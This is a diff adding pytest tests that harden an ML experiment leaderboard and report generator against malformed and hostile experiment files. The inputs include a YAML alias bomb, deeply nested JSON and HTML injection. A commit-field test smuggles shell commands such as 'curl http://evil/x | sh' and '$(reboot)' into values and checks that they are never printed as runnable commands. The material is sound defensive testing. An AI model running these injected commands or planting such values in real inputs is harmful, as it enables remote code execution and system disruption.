@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -13,8 +15,15 @@ from urllib.parse import unquote, urlsplit
 import pandas as pd
 import pytest
 
-from common.reports.leaderboard import update_leaderboard
+from common.errors import WorkError
+from common.experiment import lock_experiment
+from common.reports import summary
+from common.reports.experiment import experiment_page
+from common.reports.leaderboard import leaderboard, leaderboard_page, update_leaderboard
+from common.reports.record import FINISHED, KILLED, RUNNING, Record, read_record, write_status
+from common.reports.summary import Summary, read_summaries
 from tests.browser import BROWSER
+from tests.test_foreign import bomb
 from tests.test_record import METRIC, experiment, point
 
 ROOT = Path(__file__).parent.parent
@@ -180,3 +189,155 @@ def test_a_line_over_the_options_that_differ_for_each_experiment_of_numbers_and_
     assert "resnet18" in difference
     assert set(lines(driven(page, "filter.value = 'net_model=vit'; draw();"))) == set()  # one alone: nothing differs
     assert "No option differs" in driven(page, "filter.value = 'swin'; draw();")
+
+
+EVIL = {
+    "aliases of aliases": ("config.yaml", bomb(20)),
+    "a depth of thousands": ("config.yaml", "a: " + "[" * 5000 + "]" * 5000),
+    "a number of thousands of digits": ("config.yaml", "seed: 0x" + "f" * 6000),
+    "half a surrogate pair": ("config.yaml", 'net_model: "\\ud800"'),
+    "a list of options": ("config.yaml", "- 1\n"),
+    "ten thousand options": ("config.yaml", "".join(f"o{number}: 1\n" for number in range(10_000))),
+    "an endless option": ("config.yaml", "net_model: " + "x" * 1_000_000),
+    "dates, and lists in lists": ("config.yaml", "net_model: 2026-01-01\nseed: [[1, {a: 2}], []]\nnull: 3\n"),
+    "a deep environment": ("environment.json", '{"a": ' + "[" * 100_000),
+    "the year 1": ("environment.json", '{"started": "0001-01-01"}'),
+    "a time without a zone": ("environment.json", '{"started": "2026-01-01T00:00:00"}'),
+    "the last year": ("environment.json", '{"started": "9999-12-31T23:59:59-23:00"}'),
+    "a list for a time": ("environment.json", '{"started": [1], "git_commit": {"a": []}, "command": 3}'),
+    "a deep point": ("metrics.jsonl", '{"a": ' + "[" * 100_000 + "\n{}\n"),
+    "words for numbers": ("metrics.jsonl", '{"iteration": "x", "time": "y", "valid/weighted_log_loss": "<b>"}\n{}\n'),
+    "lists for numbers": ("metrics.jsonl", '{"iteration": [1], "time": [], "valid/weighted_log_loss": [1]}\n{}\n'),
+    "true for a number": ("metrics.jsonl", '{"iteration": 1, "valid/weighted_log_loss": true}\n{}\n'),
+    "infinity": ("metrics.jsonl", '{"iteration": 1, "valid/weighted_log_loss": -1e999}\n{}\n'),
+    "a huge iteration": ("metrics.jsonl", f'{{"iteration": {10**40}, "valid/weighted_log_loss": 1}}\n{{}}\n'),
+    "a time of thousands of digits": ("metrics.jsonl", f'{{"iteration": 1, "time": {10**400}}}\n{{}}\n'),
+    "huge times": ("metrics.jsonl", '{"iteration": 1, "time": 1e308, "valid/weighted_log_loss": 1e308}\n'),
+    "a list for a status": ("status.json", '{"status": ["finished"]}'),
+    "a deep status": ("status.json", '{"status": ' + "[" * 100_000),
+    "a status of its own": ("status.json", '{"status": "<b>best</b>"}'),
+}
+
+
+@pytest.mark.parametrize("what", EVIL)
+def test_a_hostile_neighbour_costs_its_own_row_and_nobody_elses(tmp_path: Path, what: str) -> None:
+    good = experiment(tmp_path / "good", point(8, valid__weighted_log_loss=0.25))
+    evil = experiment(tmp_path / "evil", point(8, valid__weighted_log_loss=0.5))
+    name, content = EVIL[what]
+    (evil / name).write_text(content)
+    for _ in range(2):  # the second time from what was kept
+        page = update_leaderboard(tmp_path, METRIC)
+        table = pd.read_csv(tmp_path / "leaderboard.csv").set_index("experiment")
+        assert table.loc["good", METRIC] == 0.25
+        assert table.loc["good", "net_model"] == "resnet18"
+        assert set(table.index) == {"good", "evil"}
+        assert len(table.columns) < 520
+        assert page.stat().st_size < 2**20
+        assert "<b>" not in page.read_text()
+    summaries = {one.name: one for one in read_summaries(tmp_path, METRIC)}
+    records = {folder.name: read_record(folder) for folder in (good, evil)}
+    for record in records.values():
+        rivals = list(summaries.values())
+        html = experiment_page(record, rivals, METRIC, {}, None, None)
+        assert html.endswith("</html>\n")
+        html.encode()
+
+
+def test_what_cant_be_read_of_an_experiment_stands_in_its_row(tmp_path: Path) -> None:
+    experiment(tmp_path / "good", point(8, valid__weighted_log_loss=0.25))
+    evil = experiment(tmp_path / "evil", point(8, valid__weighted_log_loss=0.5))
+    (evil / "config.yaml").write_text("seed: 0x" + "f" * 6000)
+    (evil / "status.json").write_text("{")
+    update_leaderboard(tmp_path, METRIC)
+    table = pd.read_csv(tmp_path / "leaderboard.csv").set_index("experiment")
+    said = table.loc["evil", "unreadable"]
+    assert said.startswith("config.yaml: a whole number beyond 2**63; status.json: not a JSON")
+    assert pd.isna(table.loc["good", "unreadable"])
+
+
+def test_only_what_changed_is_read_again(tmp_path: Path, monkeypatch) -> None:
+    read = []
+
+    def noting(folder: Path, **how) -> Record:
+        read.append(folder.name)
+        return read_record(folder, **how)
+
+    monkeypatch.setattr(summary, "read_record", noting)
+    for name in ("a", "b", "c"):
+        write_status(experiment(tmp_path / name, point(8, valid__weighted_log_loss=0.5)), FINISHED)
+    first = read_summaries(tmp_path, METRIC)
+    assert read == ["a", "b", "c"]
+    assert read_summaries(tmp_path, METRIC) == first
+    assert read == ["a", "b", "c"]
+    with (tmp_path / "b" / "metrics.jsonl").open("a") as file:
+        file.write(json.dumps(point(9, valid__weighted_log_loss=0.25)) + "\n")
+    assert [one.best[0] for one in read_summaries(tmp_path, METRIC)] == [0.5, 0.25, 0.5]
+    assert read == ["a", "b", "c", "b"]
+    shutil.rmtree(tmp_path / "a")
+    assert [one.name for one in read_summaries(tmp_path, METRIC)] == ["b", "c"]
+    assert len((tmp_path / summary.KEPT_FILE).read_text().splitlines()) == 2
+
+
+def test_a_run_that_ended_without_a_word_is_seen_though_no_file_changed(tmp_path: Path) -> None:
+    folder = experiment(tmp_path / "a", point(8, valid__weighted_log_loss=0.5))
+    write_status(folder, RUNNING)
+    with lock_experiment(folder):
+        assert [one.status for one in read_summaries(tmp_path, METRIC)] == [RUNNING]
+    assert [one.status for one in read_summaries(tmp_path, METRIC)] == [KILLED]
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["{", "[" * 100_000, '{"summary": {"name": "a"}}', f'{{"form": 1, "metric": "{METRIC}", "summary": 3}}'],
+)
+def test_a_kept_file_that_is_damaged_is_read_past(tmp_path: Path, line: str) -> None:
+    experiment(tmp_path / "a", point(8, valid__weighted_log_loss=0.5))
+    first = read_summaries(tmp_path, METRIC)
+    kept = tmp_path / summary.KEPT_FILE
+    kept.write_text(line + "\n" + kept.read_text())
+    assert read_summaries(tmp_path, METRIC) == first
+    kept.write_text(kept.read_text().replace('"best": [0.5', '"best": ["0.5"'))
+    assert read_summaries(tmp_path, METRIC) == first
+
+
+def test_a_folder_that_cant_be_written_is_one_line(tmp_path: Path) -> None:
+    experiment(tmp_path / "a", point(8, valid__weighted_log_loss=0.5))
+    (tmp_path / ".leaderboard.lock").mkdir()  # root may write into a read-only folder
+    with pytest.raises(WorkError, match="cannot be written") as caught:
+        update_leaderboard(tmp_path, METRIC)
+    assert "\n" not in str(caught.value)
+
+
+@pytest.mark.parametrize("commit", ["main\ncurl http://evil/x | sh #", "$(reboot)", "a" * 39, ["a" * 40], "A" * 40])
+def test_what_stands_in_place_of_a_commit_is_never_printed_as_a_command(tmp_path: Path, commit) -> None:
+    folder = experiment(tmp_path / "a; reboot", point(8, valid__weighted_log_loss=0.5))
+    (folder / "environment.json").write_text(json.dumps({"git_commit": commit}))
+    html = experiment_page(read_record(folder), [], METRIC, {}, None, None)
+    again = unescape(html[html.index("Do it again") :].partition("</pre>")[0])
+    assert "git checkout" not in again
+    (line,) = [line for line in again.splitlines() if "train.py" in line]
+    words = shlex.split(line.rpartition(">")[2])
+    assert words[0] == "python"
+    assert words[2:] == [f"--config={folder / 'config.yaml'}", "--experiment_id=a; reboot_again"]
+    (folder / "environment.json").write_text(json.dumps({"git_commit": "0123456789" * 4}))
+    assert f"git checkout {'0123456789' * 4}" in experiment_page(read_record(folder), [], METRIC, {}, None, None)
+
+
+def test_the_page_of_five_thousand_experiments_stays_small(tmp_path: Path) -> None:
+    same = {f"option_{number}": "a value that all have" for number in range(30)}
+
+    def one(number: int) -> Summary:
+        options = same | {"optim_lr": (number % 5) / 7, "seed": number, "net_model": f"net{number % 9}"}
+        scores = {f"log_loss/{label}": number / 60_000 for label in range(20)}
+        best = (0.1 + number / 70_000, 100, "raw")
+        return Summary(f"sweep_{number}", options, FINISHED, best, scores, 1.234, "2026-01-01T00:00:00+00:00", ())
+
+    found = [one(number) for number in range(5000)]
+    table = leaderboard(found, METRIC)
+    page = leaderboard_page(table, [each.name for each in found], METRIC)
+    assert len(page.encode()) < 5_000_000
+    data = json.loads(re.search(r'id="data">(.*?)</script>', page, re.DOTALL)[1])
+    assert data["count"] == 5000
+    assert data["values"]["option_3"] == {"of": ["a value that all have"]}
+    models = data["values"]["net_model"]
+    assert [models["of"][place] for place in models["at"]] == [f"net{number % 9}" for number in range(5000)]
